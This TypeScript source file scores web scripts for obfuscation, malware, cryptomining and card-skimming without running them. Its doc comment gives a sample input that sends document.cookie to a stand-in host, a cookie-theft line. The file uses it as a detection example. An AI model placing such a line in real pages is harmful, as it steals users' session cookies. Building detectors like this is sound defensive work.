import { isSufficient, type Proof } from './evidence.ts';
import type { ScoreFamily } from './features/feature.ts';
import { pointsOf } from './features/features.ts';
import type { KnownLibraries, LibraryMatch } from './libraries/known-libraries.ts';
import { libraryFindings } from './libraries/library-findings.ts';
import { scoresOf } from './score.ts';
import { type Finding, type ReadLayer, scriptLayers } from './script-layers.ts';
import type { ScriptReason, ScriptVerdict } from './script-verdict.ts';

/**
 * Scores a script without running it. The same text always gives the same verdict, with the same known libraries.
 *
 *     classifyScript('new Image().src = "//x.test/?" + document.cookie').scores.integrity // 7
 */
export function classifyScript(source: string, libraries?: KnownLibraries): ScriptVerdict {
  const reasons = new Reasons();
  let library: LibraryMatch | undefined;
  for (const layer of scriptLayers(source)) {
    if (layer.kind !== 'read') {
      if (layer.depth === 0) return { kind: layer.kind, problem: layer.problem };
      continue;
    }
    const { depth, facts, findings } = layer;
    reasons.addAll(layer, findings);
    if (depth > 0 || facts.page) continue;
    library = libraries?.match(facts.reading);
    if (library) reasons.addAll(layer, libraryFindings(library, facts, findings));
  }
  const hasEvidence = isSufficient(reasons.proofs());
  const scores = scoresOf(reasons.points(), hasEvidence, library?.kind === 'unchanged');
  const verdict = { kind: 'scored', scores, hasEvidence, reasons: reasons.list() } as const;
  if (!library) return verdict;
  const { name, version } = library.release;
  return { ...verdict, library: { name, version, match: library.kind } };
}

/** Collects reasons. A feature counts once, also if hidden code has it again. */
class Reasons {
  readonly #found = new Map<string, ScriptReason>();
  readonly #proofs = new Map<string, Proof & { readonly places: Map<number, Set<number>> }>();
  #layers = 0;

  addAll({ depth, runAt, facts, positions }: ReadLayer, findings: readonly Finding[]): void {
    this.#layers += 1;
    for (const { family, feature, nodes } of findings) {
      const key = `${family}/${feature.id}`;
      this.#prove(key, feature, nodes);
      if (this.#found.has(key)) continue;
      const { id, what } = feature;
      const points = pointsOf(family, feature);
      const start = facts.reading.tree.node(nodes[0] ?? 0)?.start ?? 0;
      const position = runAt ?? positions.of(start);
      this.#found.set(key, { id, family, what, points, ...position, isInHiddenCode: depth > 0 });
    }
  }

  #prove(key: string, { shows }: Finding['feature'], nodes: readonly number[]): void {
    if (shows.length === 0) return;
    const proof = this.#proofs.get(key) ?? { shows, places: new Map() };
    const known = proof.places.get(this.#layers) ?? [];
    proof.places.set(this.#layers, new Set([...known, ...nodes]));
    this.#proofs.set(key, proof);
  }

  points(): Record<ScoreFamily, number> {
    const sums = { obfuscation: 0, dataflow: 0, malware: 0, cryptomining: 0, magecart: 0 };
    for (const { family, points } of this.#found.values()) {
      if (family !== 'library') sums[family] += points;
    }
    return sums;
  }

  proofs(): readonly Proof[] {
    return [...this.#proofs.values()];
  }

  list(): ScriptReason[] {
    return [...this.#found.values()].sort((a, b) => b.points - a.points);
  }
}
